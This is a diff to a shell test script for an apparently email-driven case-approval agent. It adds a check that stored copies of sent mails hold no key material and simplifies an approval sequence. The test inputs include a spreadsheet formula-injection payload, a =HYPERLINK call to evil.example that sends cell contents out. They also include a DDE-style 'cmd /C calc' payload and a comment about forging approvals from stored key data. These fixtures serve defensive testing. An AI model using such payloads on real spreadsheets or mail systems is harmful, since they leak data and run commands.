@@ -64,6 +64,11 @@ if [ -n "$SQLITE3" ]; then
 	leaked=0
 	for k in $refs; do grep -q "$k" "$A/keys" && leaked=$((leaked + 1)); done
 	is "none of them is a key that was mailed" "$leaked" 0
+	kept=0
+	for k in $refs; do
+		kept=$((kept + $("$SQLITE3" "$A/cgen.db" "SELECT count(*) FROM outbox WHERE instr(CAST(data AS TEXT), '$k') > 0")))
+	done
+	is "the stored copies of the sent mails keep none either" "$kept" 0
 	# The reviewer's attack: forged approvals with what the table holds.
 	for r in aio cio; do
 		k=$(awk -F'|' -v r=$r '$2 == r { sub(/^h:/, "", $1); print substr($1, 1, 26) }' "$A/keys")
@@ -240,13 +245,7 @@ setup_agent "$H"
 request_mail "Dana <dana@water.ca.gov>" one r1@water.ca.gov DWR |
 	sed 's/^Provider: .*/Provider: =HYPERLINK("https:\/\/evil.example\/?q="\&A1\&B1,"Comcast Business")/' | deliver "$H" r1
 run_agent "$H"
-reply "$H" a1 aio@water.ca.gov "$(last_mail_to "$H" aio@water.ca.gov)" APPROVE
-reply "$H" a2 cio@water.ca.gov "$(last_mail_to "$H" cio@water.ca.gov)" APPROVE
-run_agent "$H"
-reply "$H" a3 review1@cdt.ca.gov "$(last_mail_to "$H" review1@cdt.ca.gov)" "RECOMMEND APPROVE no CGEN service at the site"
-run_agent "$H"
-reply "$H" a4 cto@cdt.ca.gov "$(last_mail_to "$H" cto@cdt.ca.gov)" "APPROVE @SUM(1+1)*cmd|' /C calc'!A0"
-run_agent "$H"
+grant_case "$H" g water.ca.gov "@SUM(1+1)*cmd|' /C calc'!A0"
 is "the case is granted" "$(case_state "$H" CGEN-2026-0001)" granted
 printf 'From: review1@cdt.ca.gov\nTo: cgen@cdt.ca.gov\nSubject: audit\nMessage-ID: <au@cdt.ca.gov>\n\nAUDIT DWR\n' | deliver "$H" au
 run_agent "$H"
